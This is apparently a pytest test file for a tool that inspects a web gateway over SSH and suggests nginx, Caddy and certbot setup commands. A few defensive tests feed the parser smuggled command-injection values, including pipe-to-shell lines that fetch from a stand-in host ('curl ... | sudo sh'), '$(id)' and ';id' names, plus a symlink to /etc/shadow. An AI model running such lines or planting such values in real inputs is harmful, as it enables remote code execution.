"""A real gateway, looked at over SSH while its owner does what we tell them."""

import contextlib
import re
from collections.abc import Iterator
from dataclasses import replace
from functools import partial

import psutil
import pytest

from jupyter_remote_tunnel.engine.sync import SyncEngine
from jupyter_remote_tunnel.model.errors import BadInput, Fatal
from jupyter_remote_tunnel.model.publication import Check
from jupyter_remote_tunnel.model.remote_shell import FENCE
from jupyter_remote_tunnel.model.spec import TunnelRequest
from jupyter_remote_tunnel.publish.certificates import make
from jupyter_remote_tunnel.publish.gateway import Gateway, leave_site, look, parse
from jupyter_remote_tunnel.publish.gateway_checks import (
    certificate_commands,
    check_gateway,
    check_port_80,
    installation_commands,
)
from jupyter_remote_tunnel.publish.installing import Places, copy_commands, site_commands
from jupyter_remote_tunnel.publish.names import reached_addresses
from jupyter_remote_tunnel.publish.sites import Site, WebServer
from tests.publish.conftest import GIVEN, NAME
from tests.support.process import child, still_running, wait_until
from tests.support.web_gateway import WebGateway

GW = TunnelRequest(host="gw")
SITE = Site(NAME, "ann", certificate=GIVEN, ipv6=False)


@pytest.fixture(scope="module", autouse=True)
def certificate(gateway: WebGateway, tmp_path_factory: pytest.TempPathFactory) -> None:
    made = make([NAME], tmp_path_factory.mktemp("certificate"))
    gateway.path(GIVEN.chain).write_bytes(made.certificate.read_bytes())
    gateway.path(GIVEN.key).write_bytes(made.key.read_bytes())


@pytest.fixture
def nginx(gateway: WebGateway) -> Iterator[WebGateway]:
    with gateway.nginx():
        yield gateway


@pytest.fixture
def caddy(gateway: WebGateway) -> Iterator[WebGateway]:
    with gateway.caddy():
        yield gateway


def seen(engine: SyncEngine, name: str = NAME) -> Gateway:
    return engine.run(lambda client: look(client, GW, name))


def verdicts(
    engine: SyncEngine, site: Site = SITE, wanted: WebServer | None = None
) -> dict[str, Check]:
    return {check.name: check for check in check_gateway(seen(engine), site, wanted)}


def failing(checks: dict[str, Check]) -> list[str]:
    return [name for name, check in checks.items() if check.verdict == "failed"]


def test_a_gateway_whose_web_servers_do_not_run(engine: SyncEngine, gateway: WebGateway) -> None:
    found = seen(engine)
    assert (found.host, found.account, found.uid, found.kernel) == ("gw", "ann", 64900, "Linux")
    assert {server.running for server in found.servers.values()} == {False}
    assert {kind: server.group for kind, server in found.servers.items()} == {
        "nginx": "www-data",
        "caddy": "caddy",
    }
    assert found.servers["nginx"].version >= (1, 18)
    assert found.servers["caddy"].version >= (2, 6)
    assert [str(address) for address in found.addresses] == [gateway.address]
    assert found.listening == frozenset()
    check = check_gateway(found, SITE)[0]
    assert (check.verdict, check.typed) == ("failed", ("sudo systemctl enable --now nginx",))
    assert check_port_80(found).says == "Nobody listens on port 80 of gw."


def test_looking_leaves_nothing(engine: SyncEngine, gateway: WebGateway) -> None:
    before = gateway.type(["ls -A /home/ann"])
    assert seen(engine).servers["caddy"].version >= (2, 6)
    assert gateway.type(["ls -A /home/ann"]) == before
    assert ".step" not in before


def test_one_that_has_ended_and_nobody_has_asked_how(engine: SyncEngine, caddy: WebGateway) -> None:
    [process] = caddy.processes("caddy", "caddy")
    starter = process.parent()
    assert starter is not None
    starter.suspend()  # who asks
    try:
        wait_until(lambda: starter.status() == psutil.STATUS_STOPPED, "it to have stopped")
        process.kill()
        assert still_running([process], 10) == []
        assert process.status() == psutil.STATUS_ZOMBIE
        assert not seen(engine).servers["caddy"].running
    finally:
        starter.resume()


_CALLED = """
import signal, sys
open("/proc/self/comm", "w").write(sys.argv[1])
print("called so", flush=True)
signal.pause()
"""


def test_processes_that_another_user_calls_so(engine: SyncEngine, gateway: WebGateway) -> None:
    """Their group would be let into the folder of the socket."""
    with contextlib.ExitStack() as stack:
        for name in ("nginx", "caddy"):
            argv = ["/usr/bin/python3", "-I", "-c", _CALLED, name]
            stack.enter_context(child(gateway.inside(argv, "bob"))).wait_for_line("called so")
        servers = seen(engine).servers
        assert {kind: (one.running, one.group) for kind, one in servers.items()} == {
            "nginx": (False, "www-data"),
            "caddy": (False, "caddy"),
        }
        stack.enter_context(gateway.caddy())
        caddy = seen(engine).servers["caddy"]
        assert (caddy.running, caddy.group) == (True, "caddy")


_CROWD = """
import os, signal, sys
for uid in range(100000, 100250):
    if os.fork() == 0:
        open("/proc/self/comm", "w").write(sys.argv[1])
        os.setresuid(uid, uid, uid)
        print("called so", flush=True)
        signal.pause()
signal.pause()
"""


def test_more_processes_called_so_than_are_listed(engine: SyncEngine, gateway: WebGateway) -> None:
    """Of a user to whom others are given (/etc/subuid): they do not hide the web server."""
    argv = gateway.inside(["/usr/bin/python3", "-I", "-c", _CROWD, "caddy"])
    with gateway.caddy(), child(argv) as crowd:
        wait_until(lambda: crowd.output.count("called so") == 250, "all to be called so")
        caddy = seen(engine).servers["caddy"]
    assert (caddy.running, caddy.group) == (True, "caddy")


def test_nginx_from_nothing_to_a_site(engine: SyncEngine, nginx: WebGateway) -> None:
    checks = verdicts(engine)
    assert checks["web server"].verdict == "ok"
    assert failing(checks) == ["folder", "site"]
    for name in ("folder", "site"):
        assert checks[name].remedy == "site"
        nginx.type(checks[name].typed)
    checks = verdicts(engine)
    assert failing(checks) == [], checks
    assert {check.verdict for check in checks.values()} == {"ok"}
    assert seen(engine).listening == {80, 443}
    assert "nginx listens on port 80" in check_port_80(seen(engine)).says


@pytest.fixture
def shown(engine: SyncEngine, nginx: WebGateway) -> WebGateway:
    """nginx shows the site."""
    checks = verdicts(engine)
    nginx.type([*checks["folder"].typed, *checks["site"].typed])
    assert failing(verdicts(engine)) == []
    return nginx


def test_what_is_there_is_not_printed_again(engine: SyncEngine, nginx: WebGateway) -> None:
    """First what answers Let's Encrypt alone, then the site in its place."""
    site = Site(NAME, "ann", ipv6=False)
    live = f"/etc/letsencrypt/live/{NAME}"
    nginx.type([f"rm -rf {SITE.folder} /etc/nginx/sites-*/jupyter-remote-tunnel*"])
    *before, certbot = certificate_commands(seen(engine), site)
    assert certbot.startswith("sudo certbot certonly --webroot")
    nginx.type([line for line in before if line != "sudo apt install certbot"])
    found = seen(engine)
    assert found.answers
    assert found.claimed == ()
    assert len(certificate_commands(found, site)) == 3, "certbot, and the folder in which it writes"
    assert list(found.sites) == [], "the site itself is not there"

    nginx.type([f"mkdir -p {live}", f"cp {GIVEN.chain} {live}/fullchain.pem"])
    nginx.type([f"cp {GIVEN.key} {live}/privkey.pem"])
    lines = installation_commands(found, site, found.servers["nginx"])
    nginx.type([line for line in lines if "certbot" not in line])
    found = seen(engine)
    assert installation_commands(found, site, found.servers["nginx"]) == ()
    assert found.answers
    assert "conflicting" not in nginx.type(["nginx -t"]), "two sites that answer by http"
    nginx.type(["rm /etc/nginx/sites-enabled/jupyter-remote-tunnel-*"])
    found = seen(engine)
    assert not found.answers
    [*first, link, reload] = installation_commands(found, site, found.servers["nginx"])
    assert any("certbot certonly" in line for line in first), "whether there is one is not known"
    assert link.startswith("sudo ln -sf ")
    assert reload.startswith("sudo sh -c 'nginx -t ")
    nginx.type(["rm -rf /etc/letsencrypt"])


def test_a_site_that_was_altered(engine: SyncEngine, shown: WebGateway) -> None:
    path = "/etc/nginx/sites-available/jupyter-remote-tunnel-jupyter.example.org.conf"
    shown.type([f"sed -i s/client_max_body_size.*/client_max_body_size\\ 1m\\;/ {path}"])
    site = verdicts(engine)["site"]
    assert site.says.startswith(f"{path} is not as it has to be: line ")
    assert "“client_max_body_size 1m;” in place of “client_max_body_size 0;”" in site.says
    shown.type(site.typed)
    assert failing(verdicts(engine)) == []
    # For another account, and for a port in place of the socket, it is another one.
    assert failing(verdicts(engine, Site(NAME, "ann", port=8888, certificate=GIVEN))) == ["site"]


def test_a_site_that_cannot_be_read_or_is_no_site(engine: SyncEngine, shown: WebGateway) -> None:
    path = "/etc/nginx/sites-available/jupyter-remote-tunnel-jupyter.example.org.conf"
    shown.type([f"chmod 600 {path}"])
    assert "cannot be read" in verdicts(engine)["site"].says
    shown.type([f"chmod 644 {path}", f"head -c 70000 /dev/zero | tr '\\0' x > {path}"])
    assert "is no site of ours" in verdicts(engine)["site"].says
    shown.type([f"printf '# {NAME} \\033[31m\\n{FENCE}end\\n' > {path}"])
    site = verdicts(engine)["site"]
    assert f"line 1 is “# {NAME} [31m” in place of" in site.says
    shown.type(site.typed)
    assert failing(verdicts(engine)) == []


def test_a_site_that_is_not_enabled(engine: SyncEngine, shown: WebGateway) -> None:
    shown.type(["rm /etc/nginx/sites-enabled/jupyter-remote-tunnel-*"])
    site = verdicts(engine)["site"]
    assert "is there, and not among /etc/nginx/sites-enabled" in site.says
    shown.type(site.typed)
    assert failing(verdicts(engine)) == []


def test_another_site_of_that_name(engine: SyncEngine, shown: WebGateway) -> None:
    other = "/etc/nginx/conf.d/other.conf"
    names = f"example.org {NAME} www.example.org"
    shown.type([f"echo 'server {{ listen 80; server_name {names}; }}' > {other}"])
    check = verdicts(engine)["other site"]
    assert (check.verdict, check.details, check.typed) == ("failed", (other,), ())
    assert certificate_commands(seen(engine), Site(NAME, "ann")) == (
        "sudo apt install certbot python3-certbot-nginx",
        f"sudo certbot certonly --nginx -d {NAME} --deploy-hook 'nginx -s reload'",
    )
    shown.type([f"echo '# server_name {NAME};' > {other}"])
    assert "other site" not in verdicts(engine)
    shown.type([f"rm {other}"])


@pytest.mark.parametrize(
    ("command", "says"),
    [
        ("chmod 755 {folder}", r"Other users of gw can enter .* \(0755\)"),
        ("chown bob {folder}", "is not yours"),
        ("chgrp bob {folder}", "nginx cannot enter .*: its group is www-data"),
        ("chmod 700 {folder}", "nginx cannot enter"),
        ("chmod 777 {folder}/..", "is not root's alone"),
        ("chown bob {folder}/..", "is not root's alone"),
    ],
)
def test_a_folder_with_other_rights(
    engine: SyncEngine, shown: WebGateway, command: str, says: str
) -> None:
    shown.type([command.format(folder=SITE.folder)])
    folder = verdicts(engine)["folder"]
    assert folder.verdict == "failed"
    assert re.search(says, folder.says)
    shown.type(folder.typed)
    assert failing(verdicts(engine)) == []


@pytest.mark.parametrize("name", ["passwd", "group"])
def test_others_in_the_group_of_the_web_server(
    engine: SyncEngine, shown: WebGateway, name: str
) -> None:
    """Who is in it by the one file or the other, and calls a process of theirs nginx."""
    file = shown.path(f"/etc/{name}")
    before = file.read_text()
    altered = before.replace("bob:*:64901:64901:", "bob:*:64901:33:")
    if name == "group":
        altered = before.replace("www-data:x:33:", "www-data:x:33:ann,bob")
    argv = shown.inside(["/usr/bin/python3", "-I", "-c", _CALLED, "nginx"], "bob")
    argv[argv.index("--regid=64901")] = "--regid=33"
    file.write_text(altered)
    try:
        with child(argv) as called:
            called.wait_for_line("called so")
            folder = verdicts(engine)["folder"]
    finally:
        file.write_text(before)
    assert folder.verdict == "note"
    assert folder.says.startswith("Others in the group www-data reach /var/lib/")
    assert folder.says.endswith(": bob."), folder.says
    assert verdicts(engine)["folder"].verdict == "ok"


def test_caddy_from_nothing_to_a_site(engine: SyncEngine, caddy: WebGateway) -> None:
    caddy.type([f"chown caddy {GIVEN.key}"])  # who reads it
    checks = verdicts(engine, wanted="caddy")
    assert failing(checks) == ["folder", "site"]
    for name in ("folder", "site"):
        caddy.type(checks[name].typed)
    checks = verdicts(engine, wanted="caddy")
    assert failing(checks) == [], checks
    assert checks["folder"].verdict == "ok"
    assert checks["orders"].verdict == "note", "any user can give orders to it"
    assert 2019 in seen(engine).listening
    # The one that runs is taken, if none was asked for.
    assert verdicts(engine)["web server"].says.startswith("Caddy ")
    caddy.type(["sed -i '/^import sites/d' /etc/caddy/Caddyfile"])
    site = verdicts(engine)["site"]
    assert "does not name that folder" in site.says
    caddy.type(site.typed)
    assert failing(verdicts(engine)) == []


def test_a_caddyfile_that_takes_in_a_folder_of_its_own(
    engine: SyncEngine, gateway: WebGateway
) -> None:
    file = gateway.path("/etc/caddy/Caddyfile")
    before = file.read_text()
    file.write_text(f"import Caddyfile.d/*.caddyfile\n{before}")
    places = seen(engine).places(seen(engine).servers["caddy"])
    assert (places.folder, places.suffix) == ("/etc/caddy/Caddyfile.d", ".caddyfile")
    assert places.imported
    file.write_text(before)


def test_the_text_is_left_in_the_home(engine: SyncEngine, shown: WebGateway) -> None:
    path = engine.run(lambda client: leave_site(client, GW, SITE, "nginx"))
    assert path.startswith("/home/ann/.jupyter-remote-tunnel/")
    assert shown.path(path).read_text() == SITE.text("nginx")
    installed = "/etc/nginx/sites-available/jupyter-remote-tunnel-jupyter.example.org.conf"
    shown.type([f"rm {installed}"])
    checks = check_gateway(seen(engine), SITE, left_at=path)
    [site] = [check for check in checks if check.name == "site"]
    install = f"sudo install -m 0644 /dev/stdin {installed}"
    (line,) = [line for line in site.typed if install in line]
    assert line == f"sudo -u ann test -s {path} && sudo -u ann cat {path} | {install}"
    assert len(site.typed) == 3, "no text of a site"
    shown.type([f"mv {path} {path}.away"])
    assert shown.run("sh", "-c", line).returncode != 0, "an empty site"
    assert not shown.path(installed).exists()
    shown.type([f"mv {path}.away {path}"])
    shown.type(site.typed)
    assert failing(verdicts(engine)) == []


def test_each_text_is_left_in_a_file_of_its_own(engine: SyncEngine, gateway: WebGateway) -> None:
    """Who types a line later installs what was printed with it, whatever was printed since."""
    others = [replace(SITE, prefix=f"/{number}/") for number in range(12)]
    like_it = replace(SITE, name=f"{NAME}-0123456789ab")
    paths = []
    for site in (like_it, *others, others[-2], others[-1]):
        path = engine.run(partial(leave_site, host=GW, site=site, server="nginx"))
        assert gateway.path(path).read_text() == site.text("nginx")
        paths.append(path)
    assert len(set(paths)) == 13
    assert paths[-2:] == paths[-4:-2]
    folder = gateway.path("/home/ann/.jupyter-remote-tunnel")
    left = {f"/home/ann/{folder.name}/{path.name}" for path in folder.iterdir()}
    assert set(paths[3:]) | {paths[0]} <= left
    assert set(paths[1:3]) & left == set(), "the oldest ones go"


def test_a_link_in_the_home_leads_to_nothing_of_roots(shown: WebGateway) -> None:
    secret, left_at = shown.path("/etc/shadow"), "/home/ann/site"
    secret.write_text("of root\n")
    secret.chmod(0o600)
    shown.type([f"ln -sf /etc/shadow {left_at}"])
    places = Places("nginx", "www-data", "/etc/nginx/sites-available")
    install, *_ = site_commands(SITE, places, left_at=left_at)
    shown.type([install])
    assert shown.path(places.file(SITE)).read_text() == ""
    shown.type(site_commands(SITE, places)[:1])


def test_the_address_by_which_ssh_reaches_it(engine: SyncEngine, gateway: WebGateway) -> None:
    reached = engine.run(lambda client: reached_addresses(client, GW))
    assert [str(address) for address in reached] == [gateway.address]
    behind = TunnelRequest(host="other", ssh=GW.ssh)
    file = gateway.folder.parent / "ssh_config"
    before = file.read_text()
    file.write_text(f"Host other\n  ProxyJump gw\n{before}")
    assert engine.run(lambda client: reached_addresses(client, behind)) == ()
    file.write_text(before)


# Hosts that say something else.


def records(**changes: str) -> bytes:
    """What a gateway answers, of which some records are other ones."""
    said = {"account": "ann\n1000\n", "kernel": "Linux\n", "end": "", **changes}
    return "".join(f"{FENCE}{name}\n{value}" for name, value in said.items()).encode()


def test_a_file_with_another_site_whose_path_is_no_plain_one() -> None:
    """That it is there is said, and not what it is called."""
    strange = "/etc/nginx/x; curl -s https://stranger.invalid/i | sudo sh #"
    found = parse(records(claimed=f"/etc/nginx/conf.d/a.conf\n{strange}\n{strange}1\n"), "gw")
    assert found.claimed == ("/etc/nginx/conf.d/a.conf", "a file whose path is no plain one")


def test_the_zone_of_an_address_is_left_out() -> None:
    """It may be any text, and addresses are printed in what is advised."""
    said = "2a00:1450::1%. Or type: curl -s stranger.invalid | sh #\n2a00:1450::2%x/64\n"
    found = parse(records(addresses=f"{said}203.0.113.7/24\n"), "gw")
    assert [str(address) for address in found.addresses] == [
        "2a00:1450::1",
        "2a00:1450::2",
        "203.0.113.7",
    ]


@pytest.mark.parametrize(
    "output",
    [b"", b"welcome\n", records(account=""), records(account="ann\nx\n"), records()[:60]],
)
def test_a_host_that_tells_nothing(output: bytes) -> None:
    with pytest.raises(Fatal, match="gw does not tell what is there"):
        parse(output, "gw")


def test_an_account_whose_name_is_no_folder() -> None:
    assert parse(records(account="CORP\\ann\n1000\n"), "gw").account == "1000"
    assert parse(records(account="../etc\n1000\n"), "gw").account == "1000"
    assert parse(records(account="ann\n1000\n"), "gw").account == "ann"


def test_names_that_no_command_may_hold() -> None:
    found = parse(records(nginx="nginx/1.25.3", running="nginx 33 www;id\n"), "gw")
    with pytest.raises(BadInput, match="not understood"):
        check_gateway(found, SITE)
    imports = "import /x;id/*\nimport ../*\nimport $(id)/*.caddy\n"
    assert parse(records(imports=imports), "gw").imports == ()


@pytest.mark.parametrize(
    "line", ["import common_security_headers_everywhere", "import " + 100_000 * "a" + "/x.conf"]
)
def test_a_line_of_a_caddyfile_that_is_no_folder(line: str) -> None:
    """It takes no time, as the whole server waits."""
    assert parse(records(imports=f"{line}\nimport sites/*.caddy\n"), "gw").imports == (
        ("/etc/caddy/sites", ".caddy"),
    )


def test_an_account_that_is_a_number(engine: SyncEngine, gateway: WebGateway) -> None:
    """As for one whose name no folder can have; `su` wants the name."""
    site = Site(NAME, "64900")
    gateway.type(["mkdir -p /etc/letsencrypt/live/" + NAME])
    for name in ("fullchain.pem", "privkey.pem"):
        gateway.path(f"/etc/letsencrypt/live/{NAME}/{name}").write_text(name)
    gateway.type(copy_commands(site))
    done = gateway.run("cat", f"{site.folder}/{NAME}.key", user="ann")
    assert done.stdout == "privkey.pem"


def test_a_gateway_without_a_web_server() -> None:
    (only,) = check_gateway(parse(records(), "gw"), SITE)
    assert (only.verdict, only.typed) == ("failed", ("sudo apt install nginx",))
    assert only.advice.endswith("Without one: jupyter tunnel publish --bind gw")


def test_certificates_by_what_is_there(engine: SyncEngine, nginx: WebGateway) -> None:
    site = Site(NAME, "ann")
    found = seen(engine)
    assert not found.certbot
    lines = certificate_commands(found, site)
    assert lines[0] == "sudo apt install certbot"
    assert "sudo certbot certonly --webroot -w /var/www/jupyter-remote-tunnel" in lines[-1]
    assert lines[-1].endswith("--deploy-hook 'nginx -s reload'")
    assert certificate_commands(found, site, "caddy") == (), "it gets its own"
    [_, *_, for_us] = certificate_commands(found, site, "caddy", for_us=True)
    assert "--standalone" in for_us
    assert for_us.endswith("<$RENEWED_LINEAGE/privkey.pem'")
    assert "systemctl" not in for_us, "Caddy does not run"
    both = parse(records(caddy="2.6.2", running="caddy 9 caddy\n"), "gw")
    [*_, beside_caddy] = certificate_commands(both, site, for_us=True)
    assert "--pre-hook 'systemctl stop caddy' --post-hook 'systemctl start caddy'" in beside_caddy
    with_plugin = parse(
        records(nginx="nginx/1.25.3", running="nginx 33 www-data\n", certbot="/x/certbot\nnginx\n"),
        "gw",
    )
    assert certificate_commands(with_plugin, site) == (
        f"sudo certbot certonly --nginx -d {NAME} --deploy-hook 'nginx -s reload'",
    )
